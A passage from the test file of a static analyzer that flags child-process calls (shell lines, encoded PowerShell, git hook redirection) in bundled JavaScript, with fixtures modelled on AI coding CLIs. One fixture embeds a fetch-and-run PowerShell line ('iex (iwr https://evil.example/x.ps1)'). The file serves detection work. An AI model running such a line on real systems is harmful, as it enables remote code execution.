      evidence: ['call child_process.execFile', 'command pnpm bin -g', 'command npm root'],
    },
    {
      name: 'a name declared again in a block that does not hold the call, or changed in place, is not spelled (medium)',
      code: 'const{exec}=require("child_process");function run(c){exec(c)}function f(cmd,g){if(g){const cmd="npm root";console.log(cmd)}run(cmd)}function h(y){let cmd="ls";{let cmd="a";cmd+=y;run(cmd)}}',
      at: ['exec(c)', 'run(cmd)}function', 'run(cmd)}}'],
      severity: 'medium',
      message: /computed at run time$/,
    },
    // Found reviewing GitHub Copilot CLI 0.1.36: child_process functions kept in an object's property.
    {
      name: "a child_process function kept in an object's property (assigned, in a literal, promisified, called through (0, o.k))",
      code: 'const cp=require("child_process"),util=require("util");const m={};m.run=cp.exec;m.run("ls");const n={execAsync:util.promisify(cp.exec)};n.execAsync("ls -la");const o={};o.execAsync=void 0;o.execAsync=util.promisify(cp.exec);(0,o.execAsync)(`${a} ${b}`)',
      at: ['m.run("ls")', 'n.execAsync', '(0,o'],
      evidence: ['command ls', 'command ls -la', 'call child_process.exec'],
    },
    // Found in Claude Code 2.1.112: a promisified execFile given its value by a lazy initialiser later in the text.
    {
      name: "a name a bundle's lazy initialiser assigns later in the text (var Z; … Z(\"osascript\", …); L(() => { Z = promisify(execFile) }))",
      code: 'import{execFile as q}from"child_process";import{promisify as P}from"util";var L=(f,r)=>()=>(f&&(r=f(f=0)),r);async function a(s){await Z("osascript",["-e",s])}var Z;var init=L(()=>{Z=P(q)});',
      at: ['Z("osascript"'],
      severity: 'low',
      allEvidence: ['call child_process.execFile', 'command osascript -e *'],
    },
    {
      name: 'PowerShell given options before -Command or -EncodedCommand and a computed line is a shell command computed at run time (medium)',
      code: 'const{execFile:x}=require("child_process");function v(A){x("powershell.exe",["-NoProfile","-NonInteractive","-Command",A])}function w(q,_){x("pwsh",["-NoProfile","-NonInteractive","-ExecutionPolicy","Bypass","-EncodedCommand",_])}',
      at: ['x("powershell', 'x("pwsh'],
      severity: 'medium',
      message: /^Runs a shell command \(child_process\.execFile\) computed at run time$/,
    },
    // The `open` package (bundled by Claude Code and Continue): PowerShell given a fixed script, base64-encoded.
    {
      name: 'PowerShell given a fixed script as -EncodedCommand (Buffer.from(String.raw`…`, "utf16le").toString("base64")), or a shell given a named constant line, is a fixed shell command (low) showing the script',
      code: 'import{Buffer as W}from"node:buffer";import K from"node:child_process";async function q(e){let t=String.raw`(Get-ItemProperty -Path "HKCU:\\Software").ProgId`,n=W.from(t,"utf16le").toString("base64");return K.execFile(e,["-NoProfile","-NonInteractive","-ExecutionPolicy","Bypass","-EncodedCommand",n])}const L="uname -a";function r(){K.spawn("bash",["-c",L])}',
      at: ['K.execFile', 'K.spawn'],
      severity: 'low',
      message: /^Runs a shell command \(child_process\.(execFile\): \(encoded\) \(Get-ItemProperty|spawn\): uname -a$)/,
    },
    // Command Code 1.63.0 (review 95): its sandbox check runs fixed git commands through a runner given as a property of an object.
    {
      name: "a function given as a property of an object in place (validate({ run: ({ command }) => execSync(command) })) is called where that function calls param.run(…): every caller's fixed command, low",
      code: 'import{execSync as S}from"child_process";function validate(e){const t=e.run({command:"git remote get-url origin"}).trim();const r=e.run({command:"git branch --show-current"}).trim();return{t,r}}export function sandbox(){return validate({run:({command:e})=>S(e,{encoding:"utf-8"})})}',
      at: ['e.run({command:"git remote', 'e.run({command:"git branch', 'S(e'],
      severity: 'low',
      message: /git (remote get-url origin|branch --show-current)/,
    },
    // Claude Code Router 2.0.0 (review 91): find-process's exec wrapper, exported, called through an interop object.
    {
      name: "a method of an object reached through a member chain (Ln.default.exec with Ln = { default: exports.default } and exports.default = utils) is that object's method: its caller's fixed command is shown (the exported wrapper stays computed)",
      code: 'var child_process=require("child_process");var utils={exec(cmd,cb){child_process.exec(cmd,{windowsHide:true},cb)}};exports.default=utils;var Ln={default:exports.default};exports.finders={linux(port){return new Promise((res,rej)=>{Ln.default.exec("netstat -tunlp",(e,out)=>e?rej(e):res(out))})}};',
      at: ['child_process.exec', 'Ln.default.exec'],
      message: /^Runs a shell command \(child_process\.exec(?:\) computed at run time| via Ln\.default\.exec\(\)\): netstat -tunlp)$/,
    },
    // Kimi Code 0.43.1 (review 89): its updater's start, a shell only on Windows, from a helper that may also return nothing.
    {
      name: "a shell only on Windows from a helper's object that may be `void 0` (return void 0 when no program is found), with an argument list, is a program start (low)",
      code: 'import{spawn}from"node:child_process";function resolve(cmd,platform){const r=look(cmd);if(r===void 0)return void 0;return{resolvedCmd:r,args:["install","-g","x"],shell:platform==="win32"}}export function up(platform){const t=resolve("npm",platform);return spawn(t.resolvedCmd,[...t.args],{stdio:"inherit",shell:t.shell?true:void 0})}',
      at: ['spawn(t.resolvedCmd'],
      severity: 'low',
    },
    {
      name: 'the same helper that may return a shell set on everywhere is a shell line computed at run time (medium)',
      code: 'import{spawn}from"node:child_process";function resolve(cmd,platform){const r=look(cmd);if(r===void 0)return void 0;if(platform==="linux")return{resolvedCmd:r,args:[],shell:true};return{resolvedCmd:r,args:["install","-g","x"],shell:platform==="win32"}}export function up(platform){const t=resolve("npm",platform);return spawn(t.resolvedCmd,[...t.args],{stdio:"inherit",shell:t.shell?true:void 0})}',
      at: ['spawn(t.resolvedCmd'],
      severity: 'medium',
    },
    // The `open` package's powershell-utils (Gemini CLI, Qoder, CodeBuddy, Copilot; review 94): an async PowerShell runner
    // whose list a helper builds from a prefix and an encoder, functions with properties set on them, a name declared bare first.
    {
      name: "powershell-utils' executePowerShell (createArguments: [...argumentsPrefix, encodeCommand(command)], executePowerShell.encodeCommand = …) given a fixed script: the script, low",
      code: 'import{execFile as cb}from"node:child_process";import{promisify}from"node:util";const execFile=promisify(cb);const psPath=()=>`${process.env.SYSTEMROOT||"C:\\Windows"}\\System32\\WindowsPowerShell\\v1.0\\powershell.exe`;var argumentsPrefix=["-NoProfile","-NonInteractive","-ExecutionPolicy","Bypass","-EncodedCommand"];var encodeCommand=(command)=>Buffer.from(command,"utf16le").toString("base64");var createArguments=(command)=>[...argumentsPrefix,encodeCommand(command)];var executePowerShell=async(command,options={})=>{const{powerShellPath:p,...rest}=options;return execFile(p??psPath(),createArguments(command),{encoding:"utf8",...rest})};executePowerShell.argumentsPrefix=argumentsPrefix;executePowerShell.encodeCommand=encodeCommand;var ps=`\ntry { $c = Get-Clipboard -Raw } catch { exit 1 }`;export async function paste(){const{stdout}=await executePowerShell(ps);return stdout}',
      at: ['execFile(p??'],
      severity: 'low',
      message: /\(encoded\) try \{ \$c = Get-Clipboard -Raw \}/,
    },
    {
      name: "the same runner minified (var a, wE; wE = async (t, e = {}) => …; wE.encodeCommand = t => …; [...wE.argumentsPrefix, o]) given a String.raw script: the script, low",
      code: 'import H from"node:child_process";import{promisify as P}from"node:util";var G,I,wE;G=P(H.execFile);I=()=>"powershell.exe";wE=async(t,e={})=>{let{powerShellPath:n,...r}=e,o=wE.encodeCommand(t);return G(n??I(),[...wE.argumentsPrefix,o],{encoding:"utf8",...r})};wE.argumentsPrefix=["-NoProfile","-NonInteractive","-EncodedCommand"];wE.encodeCommand=t=>Buffer.from(t,"utf16le").toString("base64");export const vgt=async()=>{let t=I(),e=String.raw`(Get-ItemProperty -Path "HKCU:\\Software\\X").ProgId`,{stdout:n}=await wE(e,{powerShellPath:t});return n.trim()}',
      at: ['G(n??'],
      severity: 'low',
      message: /\(encoded\) \(Get-ItemProperty/,
    },
    {
      name: 'the same runner given a script computed at run time is a shell command computed at run time (medium)',
      code: 'import H from"node:child_process";import{promisify as P}from"node:util";var G,wE;G=P(H.execFile);wE=async(t,e={})=>{let o=wE.encodeCommand(t);return G("powershell.exe",["-EncodedCommand",o],e)};wE.encodeCommand=t=>Buffer.from(t,"utf16le").toString("base64");export const run=async(s)=>wE(`Get-Item ${s}; ${process.env.EXTRA}`)',
      at: ['G("powershell.exe"'],
      severity: 'medium',
    },
    // Copilot CLI 1.0.85 (review 90): its process listing, encoded by a one-line helper, the script set in a lazy initialiser.
    {
      name: "a fixed script encoded by the code's own encoder (Bne(t) returning Buffer.from(t, \"utf16le\").toString(\"base64\")) is a fixed shell command (low) showing the script",
      code: 'import{execFile}from"node:child_process";var Une,v=(fn,res)=>()=>(fn&&(res=fn(fn=0)),res);var init=v(()=>{Une=["[Console]::OutputEncoding = [Text.Encoding]::UTF8","Get-CimInstance Win32_Process"].join(`\n`)});function Bne(t){return Buffer.from(t,"utf16le").toString("base64")}export function jne(){init();return execFile("powershell.exe",["-NoProfile","-NonInteractive","-EncodedCommand",Bne(Une)])}',
      at: ['execFile("powershell.exe"'],
      severity: 'low',
      message: /^Runs a shell command \(child_process\.execFile\): \(encoded\) \[Console\]::OutputEncoding/,
    },
    {
      name: 'an encoder that changes its parameter before encoding it (t = t + "; iex …") is no plain encoder: computed (medium)',
      code: 'const{spawn}=require("child_process");function enc(t){t=t+"; iex (iwr https://evil.example/x.ps1)";return Buffer.from(t,"utf16le").toString("base64")}module.exports=()=>spawn("powershell.exe",["-NoProfile","-EncodedCommand",enc("Get-Date")])',
      at: ['spawn("powershell.exe"'],
      severity: 'medium',
    },
    {
      name: 'the same encoder given a script computed at run time is a shell command computed at run time (medium)',
      code: 'import{execFile}from"node:child_process";function Bne(t){return Buffer.from(t,"utf16le").toString("base64")}export function run(s){return execFile("powershell.exe",["-NoProfile","-EncodedCommand",Bne(s)])}',
      at: ['execFile("powershell.exe"'],
      severity: 'medium',
    },
    {
      name: 'a shell line whose command is fixed and only a value computed (Get-Process -Id ${pid}, a list of script lines joined) is low, like exec(`pkill -P ${n}`)',
      code: 'const{execFile:x,spawn:s}=require("child_process");function a(pid){return x("powershell.exe",["-NoProfile","-NonInteractive","-Command",`$t = Get-Process -Id ${pid}; $t.StartTime`])}function b(){const script=["Add-Type -AssemblyName System.Windows.Forms;","$d = New-Object System.Windows.Forms.FolderBrowserDialog;"].join(" ");return x("powershell.exe",["-NoProfile","-STA","-Command",script])}function c(p){s("bash",["-c",`ls -la ${p}`])}',
      at: ['x("powershell.exe",["-NoProfile","-NonInteractive"', 'x("powershell.exe",["-NoProfile","-STA"', 's("bash"'],
      severity: 'low',
      message: /^Runs a shell command \(child_process\.(execFile|spawn)\): (\$t = Get-Process -Id \*|Add-Type|ls -la \*)/,
    },
    {
      name: "a shell line spelled through a name declared in a block, a template's .trim(), fixed and computed lines joined, or a helper's returned template, encoded or not, is fixed when its start is (low)",
      code: 'const{execFile:x,execFileSync:y}=require("child_process");function a(pid,w){if(w){const s=`$p = ${pid}; Get-CimInstance -Filter "ParentProcessId=$p"`;return x("powershell.exe",["-NoProfile","-Command",s])}else{const s="ps";return x("sh",["-c",s])}}function b(m,e){const s=["$ErrorActionPreference = \\"Stop\\"",`[FileSystem]::${m}(\'${e}\',`+" [UIOption]::OnlyErrorDialogs)"].join("; ");y("powershell",["-NoProfile","-Command",s])}function h(p){return `\n  $paths = @(${p});\n  Get-Acl $paths`}function c(p){const t=`\n  Get-Item ${p}`.trim(),e=Buffer.from(h(p),"utf16le").toString("base64");y("powershell",["-Command",t]);y("powershell",["-EncodedCommand",e])}',
      at: ['x("powershell.exe"', 'x("sh"', 'y("powershell",["-NoProfile"', 'y("powershell",["-Command"', 'y("powershell",["-EncodedCommand"'],
      severity: 'low',
      message: /^Runs a shell command \(child_process\.execFile(Sync)?\): \S/,
    },
    {
      name: 'a line whose start is computed stays medium through a name, a join or an encoding',
      code: 'const{execFileSync:y}=require("child_process");function a(c){const s=`${c} --help`;y("pwsh",["-Command",s])}function b(c){y("pwsh",["-Command",[c,"x"].join(" ")])}function d(c){y("pwsh",["-EncodedCommand",Buffer.from(`${c}`,"utf16le").toString("base64")])}',
      at: ['y("pwsh",["-Command",s', 'y("pwsh",["-Command",[', 'y("pwsh",["-Enc'],
      severity: 'medium',
    },
    {
      name: "a shell given a script before -c (bash run.sh -c x: the script's argument), or -e (errexit), runs no command line",
      code: 'const{execFile:x}=require("child_process");function v(A){x("bash",["run.sh","-c",A]);x("bash",["-e","setup.sh"])}',
      at: ['x("bash",["run', 'x("bash",["-e'],
      severity: 'low',
      message: /^Starts a program/,
    },
    // Qwen Code's SDK: a shell option passed on through a runner's options, settled from its callers after the walk.
    {
      name: 'a shell only on Windows given through a name testing win32 and either of two extensions, with an argument list in a name (low)',
      code: 'const{spawnSync:s}=require("child_process");function e(p,f){let c=p,a=[f];const needsShell=process.platform==="win32"&&(c.endsWith(".cmd")||c.endsWith(".bat"));return s(c,a,{stdio:"inherit",shell:needsShell})}',
      at: ['s(c'],
      severity: 'low',
      message: /^Starts a program/,
    },
    {
      name: "a runner's shell option that no caller sets, or that callers set only for Windows .cmd wrappers, is a program start (low)",
      code: 'const cp=require("child_process");function w(c){return process.platform==="win32"&&/\\.(cmd|bat)$/i.test(c)}function run(c,a,o){return cp.spawn(c,a,{env:o.env,shell:o.shell})}function q(c,l,{shell:h,env:v}={}){return cp.execFileSync(c,l,{shell:h,env:v})}function use(x){run(x,["-v"],{env:{},shell:w(x)});q("tput",["cols"],{env:{}});q("resize",["-u"])}',
      at: ['cp.spawn', 'cp.execFileSync', 'run(x', 'q("tput"', 'q("resize"'],
      severity: 'low',
      message: /^Starts a program/,
    },
    {
      name: "a runner's shell option is a shell when a caller turns it on, passes something unknown, or nobody in the module calls it (medium)",
      code: 'const cp=require("child_process");const{pick}=require("./opts");const base={shell:!0};function a(c,o){return cp.spawn(c,[],{shell:o.shell})}function b(c,o){return cp.spawn(c,["x"],{shell:o.shell})}function d(c,o){return cp.spawn(c,["x"],{shell:o.shell})}exports.d=d;function u(x){a(x,{...base});b(x,{shell:pick()})}',
      at: ['cp.spawn(c,[]', 'cp.spawn(c,["x"],{shell:o.shell})}function d', 'cp.spawn(c,["x"],{shell:o.shell})}exports', 'a(x', 'b(x'],
      severity: 'medium',
      message: /^Runs a shell command/,
    },
    // Found in review: names that look settled but take other values.
    {
      name: 'a parameter given a value in the body (a downlevelled default) still holds what callers pass (medium)',
      code: 'var cp=require("child_process");function f(t){if(!t)t=process.platform==="win32"?"start":"xdg-open";cp.exec(`${t} ${process.argv[2]}`)}',
      at: ['cp.exec'],
      severity: 'medium',
    },
    {
      name: "a wrapper's caller passing its own parameter given a default in the body stays computed (medium)",
      code: 'var cp=require("child_process");function run(e){return cp.execSync(e)}\nfunction h(n){if(n===void 0){n="npm root -g"}return run(n)}',
      at: ['cp.execSync', 'run(n)'],
      severity: 'medium',
    },
    {
      name: 'a name a loop assigns to (for-in at module level, a for-of pattern) is not one value (medium)',
      code: 'var cp=require("child_process");var rg=c?"rg.exe":"rg";for(rg in globalThis.cfg);cp.exec(`${rg} --version`);function go(list,u){let o=c?"open":"xdg-open";for([o] of list);cp.exec(`${o} ${u}`)}',
      at: ['cp.exec(`${rg}', 'cp.exec(`${o}'],
      severity: 'medium',
    },
    {
      name: "a wrapper's caller passing a name changed elsewhere stays computed (medium)",
      code: 'const{exec:x}=require("child_process");function executeCommand(c){x(c)}\nlet other=a?"x":"y";function h(){executeCommand(other)}function k(){other=process.argv[2]}',
      at: ['x(c', 'executeCommand(other)'],
      severity: 'medium',
    },
    { name: 'a command made by a call nothing decodes is still computed', code: 'const cp=require("child_process");function f(){cp.exec(g(),()=>0)}', at: ['cp.exec'], severity: 'medium' },
    {
      name: "calls of a same-module wrapper whose parameter is the command are process starts with the caller's command (Claude Code's execFile helper, a service's this.spawn)",
      code: 'const cp=require("child_process");var w={execFile(q,K,_){return new Promise(z=>{cp.execFile(q,K,_,(e,o)=>z(o))})}};class S{spawn(c,a){return cp.spawn(c,a)}run(){return this.spawn("systemd-inhibit",["--help"])}}\nfunction ps(){return w.execFile("powershell.exe",["-NoProfile"],{})}',
      at: ['cp.execFile', 'cp.spawn', 'this.spawn("systemd', 'w.execFile("powershell'],
      severity: 'low',
    },
    {
      name: 'a shell wrapper called with a computed command is medium at the call, with the wrapper related',
      code: 'const cp=require("child_process");function sh(c){return cp.execSync(c)}\nsh(`git log ${x}`);sh(y)',
      at: ['cp.execSync', 'sh(`git', 'sh(y)'],
    },
    {
      name: "a wrapper of a wrapper: the outer caller's command, two levels out from the process call",
      code: 'const cp=require("child_process");function sh(c){return cp.execSync(c)}function git(a){return sh(a)}\ngit("git status")',
      at: ['cp.execSync', 'sh(a)', 'git("git status")'],
    },
    {
      name: 'a caller passing a computed command further out adds no finding: the start is shown where it is passed on',
      code: 'const cp=require("child_process");function sh(c){return cp.execSync(c)}function git(a){return sh(a)}\ngit(process.argv[2])',
      at: ['cp.execSync', 'sh(a)'],
      severity: 'medium',
    },
    {
      name: "a runner given the command as one list, program first (cmd[0], cmd.slice(1); Bun.spawn(cmd)), called with a written list",
      code: 'const cp=require("child_process");function run(cmd,o){return cp.spawn(cmd[0],cmd.slice(1),o)}function bun(cmd){return Bun.spawn(cmd,{stdout:"pipe"})}\nrun(["rg","--version"]);bun(["git","status"])',
      at: ['cp.spawn', 'Bun.spawn', 'run(["rg"', 'bun(["git"'],
      severity: 'low',
    },
    {
      name: 'Bun.spawn given the program and a spread of the arguments, each a parameter of the wrapper',
      code: 'function start(bin,args){return Bun.spawn([bin,...args],{stdin:"pipe"})}\nstart("clangd",["--background-index"])',
      at: ['Bun.spawn', 'start("clangd"'],
      severity: 'low',
    },
    {
      name: "a wrapper's caller is given the wrapper's fixed arguments (probeBinary(\"ffmpeg\") running ffmpeg -version)",
      code: 'const cp=require("child_process");function probe(b){return new Promise(r=>cp.execFile(b,["-version"],()=>r()))}\nprobe("ffmpeg")',
      at: ['cp.execFile', 'probe("ffmpeg")'],
      severity: 'low',
    },
    {
      name: "a shell line a wrapper builds itself stays the wrapper's: its caller, giving only the shell's path, starts a program (low)",
      code: 'const cp=require("child_process");function snap(sh){let s=build(sh);return cp.execFile(sh,["-c","-l",s])}\nsnap(process.env.SHELL)',
      at: ['cp.execFile', 'snap(process'],
    },
    { name: 'execa when its import is visible', code: 'import {execa} from "execa";await execa("gh",["auth","token"])', at: ['execa("gh"'] },
    // Letta Code 0.25.9 (review 85): its Bash tool's launcher list destructured by the wrapper that starts it.
    {
      name: 'a wrapper destructuring its command list ([exe, ...args] = launcher) starts what its callers give: a shell line computed at run time (medium), a fixed command (low)',
      code: 'const{spawn}=require("child_process");function spawnWithLauncher(launcher,o){const[executable,...args]=launcher;return spawn(executable,args,{cwd:o.cwd})}function bash(command,o){return spawnWithLauncher(["bash","-c",command],o)}function ver(o){return spawnWithLauncher(["git","--version"],o)}',
      at: ['spawn(executable', 'spawnWithLauncher(["bash"', 'spawnWithLauncher(["git"'],
      message: /computed at run time$|via spawnWithLauncher\(\)\): git --version$/,
    },
    // Gemini CLI 0.38.0 (review 85): its shell tool's command prepared by a helper that spreads the shell's own prefix list,
    // through the sandbox manager made when none is given.
    {
      name: "a list a helper builds by spreading another helper's prefix ({ program, args: [...argsPrefix, cmd] }), prepared through a default instance (cfg.m ?? new Noop()), is a shell line (medium)",
      code: 'const cp=require("child_process");function conf(){return{executable:"bash",argsPrefix:["-c"]}}class Noop{async prepareCommand(r){return{program:r.command,args:r.args}}}async function prep(c,cfg){const m=cfg.m??new Noop();let{executable,argsPrefix}=conf();const spawnArgs=[...argsPrefix,c];const s=await m.prepareCommand({command:executable,args:spawnArgs});return{program:s.program,args:s.args}}async function execute(c,cfg){const{program:p,args:a}=await prep(c,cfg);return cp.spawn(p,a,{shell:false})}',
      at: ['cp.spawn'],
      severity: 'medium',
      message: /^Runs a shell command \(child_process\.spawn\) computed at run time$/,
    },
    {
      name: 'the same helper spreading a prefix that is no shell option stays a program start (low)',
      code: 'const cp=require("child_process");function conf(){return{executable:"git",argsPrefix:["log"]}}function prep(c){let{executable,argsPrefix}=conf();return{program:executable,args:[...argsPrefix,c]}}function execute(c){const{program:p,args:a}=prep(c);return cp.spawn(p,a)}',
      at: ['cp.spawn'],
      severity: 'low',
    },
    // Claude Code 2.1.20 (review 87): the clipboard's copy commands per platform, tried in turn through its own runner.
    {
      name: "a loop's element of the lists a table gives per platform, run by the code's own runner, is fixed (low), each command shown",
      code: 'const{spawn}=require("child_process");function zY(cmd,opts){return spawn(cmd,[],opts)}const XnY={macos:["pbcopy"],linux:["xclip -selection clipboard","wl-copy"],windows:["clip"]};function copy(A){let K=platform(),q=XnY[K];for(let Y of q){try{return zY(Y,{input:A,shell:true})}catch(z){continue}}}',
      at: ['spawn(cmd', 'zY(Y'],
      severity: 'low',
      message: /computed at run time$|via zY\(\)\): pbcopy or xclip -selection clipboard or wl-copy or clip$/,
    },
    {
      name: 'the same loop over a table that is changed, or with its loop variable given another value, is computed (medium)',
      code: 'const{spawn}=require("child_process");function zY(cmd,opts){return spawn(cmd,[],opts)}const T={linux:["wl-copy"]};T.linux.push(process.env.CLIP);function copy(A){let q=T[platform()];for(let Y of q){zY(Y,{input:A,shell:true})}}const U={linux:["wl-copy"]};function copy2(A){let q=U[platform()];for(let Y of q){Y=process.env.CLIP;zY(Y,{shell:true})}}',
      at: ['spawn(cmd', 'zY(Y,{input', 'zY(Y,{shell'],
      message: /computed at run time$/,
    },
    // Copilot CLI 1.0.60 (review 82): hook scripts written into .git/copilot-hooks, then core.hooksPath pointed there.
    {
      name: "git config core.hooksPath DIR, as an argument list or a shell line, points git's hooks at another folder (medium)",
      code: 'const{execFile,execSync}=require("child_process"),path=require("path");const run=require("util").promisify(execFile);async function configure(cwd){const l=path.join(cwd,".git","copilot-hooks");await run("git",["config","--local","core.hooksPath",l],{cwd})}function husky(){execSync("git config core.hooksPath .husky")}',
      at: ['run("git"', 'execSync("git'],
      severity: 'medium',
      message: /^Points git's hooks at another folder \(.*core\.hooksPath/,
    },
    // Claude Code 2.1.300 (review 96): its hooks installed with --replace-all.
    {
      name: 'git config --global --replace-all core.hooksPath DIR points git\'s hooks at another folder too (medium)',
      code: 'const{execFile}=require("child_process");function he(o){return execFile("git",["config","--global","--replace-all","core.hooksPath",o])}',
      at: ['execFile("git"'],
      severity: 'medium',
      message: /^Points git's hooks at another folder/,
    },
    // Claude Code 2.1.300 (review 96): a shell only for a .cmd or .bat wrapper, with an argument list.
    {
      name: 'a shell turned on only for a batch wrapper (shell: /\\.(cmd|bat)$/i.test(file)) with an argument list is a program start (low); on for any other name it is a shell (medium)',
      code: 'const{execFile}=require("child_process");function run(w,args){return execFile(w,args,{windowsHide:true,shell:/\\.(cmd|bat)$/i.test(w)})}',
      at: ['execFile(w'],
      severity: 'low',
      message: /^Starts a program/,
    },
    {
      name: 'a shell turned on for any other name test is a shell command computed at run time (medium)',
      code: 'const{execFile}=require("child_process");function run(w,args){return execFile(w,args,{shell:/\\.sh$/.test(w)})}',
      at: ['execFile(w'],
      severity: 'medium',
    },
    {
      name: 'reading or unsetting core.hooksPath is a plain process start (low)',
      code: 'const{execSync}=require("child_process");function reads(){return execSync("git config --get core.hooksPath").toString()}function unset(){execSync("git config --unset core.hooksPath")}function show(){return execSync("git config core.hooksPath")}',
      at: ['execSync("git config --get', 'execSync("git config --unset', 'execSync("git config core'],
      severity: 'low',
      message: /^Runs a shell command/,
    },
    // Command Code 1.54.2 (review 86): esbuild's keep-names call hands the wrapper nowhere; its callers give fixed commands.
    {
      name: "a shell wrapper named by esbuild's __name whose every caller gives a fixed command is low, the commands shown",
      code: 'import{execSync as w}from"node:child_process";var __name=(o,r)=>Object.defineProperty(o,"name",{value:r,configurable:true});function defaultRunCommand(e){return w(e.command,{encoding:"utf8"})}__name(defaultRunCommand,"defaultRunCommand");export function branch(){return defaultRunCommand({command:"git branch --show-current"}).trim()}',
      at: ['w(e.command', 'defaultRunCommand({'],
      severity: 'low',
    },
    {
      name: 'a shell wrapper handed to another function as well as called stays computed (medium)',
      code: 'import{execSync as w}from"node:child_process";function run(e){return w(e.command)}register(run);export function branch(){return run({command:"git branch"})}',
      at: ['w(e.command', 'run({'],
      message: /computed at run time$|via run\(\)\): git branch$/,
    },
    // OpenCode 1.19.5 (review 84): Bun's split bundles share one `import.meta.require` from a chunk.
    { name: "a Node built-in loaded by a function another chunk of the build exports (Bun's shared import.meta.require)", code: 'import{r,H}from"/$bunfs/root/chunk-rt.js";var q=H("child_process");function run(){return q.spawn("git",["status"])}var p=H("node:child_process");p.execFileSync("ls",["-la"])', at: ['q.spawn', 'p.execFileSync'], severity: 'low' },
    // Gemini CLI 0.45.2 (review 81): code splitting imports execa, bundled once, from a shared chunk under its own name.
    { name: "execa imported from another chunk of a code-split bundle under the library's name", code: 'import {execa, execaSync as run} from "./chunk-3AIAY5PD.js";var xsel="xsel";await execa(xsel,["--clipboard","--output"]);run("git",["status"])', at: ['execa(xsel', 'run("git"'] },
  ],
  valid: [
    { name: 'a class of that name that is not the MCP SDK\'s starts nothing', code: 'class StdioClientTransport{constructor(o){this.o=o}}export const t=new StdioClientTransport({command:"npx",args:["x"]})' },
    { name: "a package's function given a built-in's name is not a require", code: 'import{H}from"some-loader";var q=H("child_process");q.spawn("git",["status"])' },
    { name: "a chunk's export of another name is the chunk's own code", code: 'import {spawnAsync, execute} from "./chunk-3AIAY5PD.js";await spawnAsync("git",["status"]);execute("ls")' },
    { name: "a class field given a module and another object: not known to be the module", code: 'const cp=require("child_process");class R{constructor(o){this.child=cp;if(o)this.child=o.runner}run(c){return this.child.exec(c)}}' },
    { name: "a class field given a module by one construction and another object by another", code: 'class R{constructor(cp){this.cp=cp}run(c){return this.cp.exec(c)}}const a=new R(require("child_process"));const b=new R({exec(){}})' },
    { name: 'a destructured helper parameter whose object a caller does not write in place', code: 'const cp=require("child_process");function run({cp},c){return cp.exec(c)}run(deps,"ls")' },
    { name: 'a helper one caller hands a module and another its own object', code: 'const cp=require("child_process");function run(c,cmd){return c.exec(cmd)}run(cp,"ls");run({exec(){}},"x")' },
    // command-code 1.53.1 (review 64): minified locals named like the module's imports, declared later in the same const list.
    { name: "a call of a local declared later in its function's const list is not the import of that name", code: 'import{execSync as w,exec as k}from"child_process";export function h(write){let p=[];const add=t=>{p.push(t);w()},w=()=>{setTimeout(()=>k(),5)},k=async()=>{await write(p)};return{add}}' },
    { name: 'a spawn method of an unknown object without a terminal size is not taken for one', code: 'function f(w){w.spawn("x",[],{cwd:"/"});w.spawn({cols:1,rows:2});w.launch("x",[],{cols:1,rows:2})}' },
    { name: 'a tag named $ that is not Bun\'s or execa\'s', code: 'function f($){return $`git status ${1}`}const $=require("./tpl");$`rm -rf ${d}`' },
    {
      name: "an object's property given a child_process function and something else, written over by a spread, or an object given to Object.assign, is no process start",
      code: 'const cp=require("child_process");const m={};m.run=cp.exec;m.run=function(c){return c};m.run("ls");const n={run:cp.exec,...extra};n.run("ls");const o={run:cp.exec};o.run=mine;o.run("x");const p={run:cp.exec};Object.assign(p,{run:s=>console.log(s)});p.run("y")',
    },
    { name: 'exec of a regex or a database', code: '/a/.exec(s);db.exec("select 1");p.spawn()' },
    { name: 'node-pty members that start nothing', code: 'const p=require("node-pty");p.native;p.open({cols:1})' },
    { name: 'an unrelated module with spawn', code: 'const w=require("worker-pool");w.spawn(x)' },
  ],
});

describe('child-process: a program kept in a local assigned in branches', () => {
  it("reads, at each start, only the values that reach it (systeminformation's process list: a command chosen in branches, text added in another branch)", () => {
    const code = 'const{exec}=require("child_process");function ps(a,b,lin){let c="";if(a||b){a&&(c="ps -axo pid"),b&&(c="ps -Ao pid,ppid");exec(c,(e,o)=>{lin?(c="cat /proc/stat",o.forEach(u=>{c+=";cat /proc/"+u+"/stat"}),exec(c)):(c="ps -o pid",exec(c))})}}\nfunction r(p){let r="";if(p){let r="x";r="y";exec(r)}else{let r="";p&&(r="route -n");exec(r)}}';
    const found = scanWith([childProcess], code);
    assert.deepEqual(found.map(f => `${f.severity} ${f.message}`), [
      'low Runs a shell command (child_process.exec): ps -axo pid or ps -Ao pid,ppid',
      'low Runs a shell command (child_process.exec): cat /proc/stat*',
      'low Runs a shell command (child_process.exec): ps -o pid',
      'low Runs a shell command (child_process.exec): y',
      'low Runs a shell command (child_process.exec): route -n',
    ]);
  });

  it("spells a command a local is given as a string the file decodes (Qoder's _$d(\"…\") among literal commands)", () => {
    const code = 'const{exec:n}=require("child_process");function _d(s){return Buffer.from(s,"base64").toString("utf8")}function f(a,b){let g="df -kP";a&&(g=_d("ZGYgLWtQVHggc3F1YXNoZnM=")),b&&(g="df -kPT");n(g,(e,o)=>o)}module.exports={f}';
    assert.deepEqual(scanWith([childProcess], code).map(f => `${f.severity} ${f.message}`), ['low Runs a shell command (child_process.exec): df -kP or df -kPTx squashfs or df -kPT']);
  });

  it('names every program the branches assign, not the last one written', () => {
    const code = 'const cp=require("child_process");function q(w){let c="ls";if(w)c="dir";return cp.execSync(c)}\nfunction o(p,u){let b;switch(p){case "darwin":b="open";break;default:b="xdg-open"}return cp.execFileSync(b,[u])}';
    const found = scanWith([childProcess], code);
    assert.deepEqual(found.map(f => f.message), ['Runs a shell command (child_process.execSync): ls or dir', 'Starts a program (child_process.execFileSync): open * or xdg-open *']);
  });
});

describe('child-process: wrappers', () => {
  it('reports the call of a wrapper with the command it is given, the wrapper as a related place, and no second finding for the same call', () => {
    const code = 'const cp=require("child_process");function sh(c){return cp.execSync(c)}\nsh("git status");sh(`git log ${x}`)';
    const found = scanWith([childProcess], code);
    const at = (s: string) => found.find(f => f.offset === code.indexOf(s));
    assert.equal(at('sh("git')?.severity, 'low');
    assert.deepEqual(at('sh("git')?.evidence, ['call child_process.execSync via sh()', 'command git status', 'shell']);
    assert.equal(at('sh("git')?.related[0].message, 'the wrapper starts the process here');
    assert.equal(at('sh(`git')?.severity, 'low', 'a literal command with a computed argument stays low');
    assert.equal(found.length, 3);
  });

  it("gives a wrapper's fixed arguments to its callers, not a shell line it builds from its own values", () => {
